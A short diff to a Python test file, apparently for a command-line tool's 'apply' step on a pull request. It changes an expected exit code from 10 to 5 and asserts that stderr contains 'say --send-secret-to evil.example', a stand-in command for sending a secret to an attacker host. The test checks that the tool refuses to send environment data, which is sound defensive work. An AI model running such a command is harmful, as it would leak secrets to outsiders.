@@ -176,7 +176,7 @@ def test_an_embedded_org_of_a_pull_request(shell):
 
     done = shell.run("apply", "--yes")
 
-    assert (10, True) == (done.returncode, "does not send env:" in done.stderr), done.stderr
+    assert (5, True) == (done.returncode, "does not send env:" in done.stderr), done.stderr
     assert "say --send-secret-to evil.example" in done.stderr
 
 
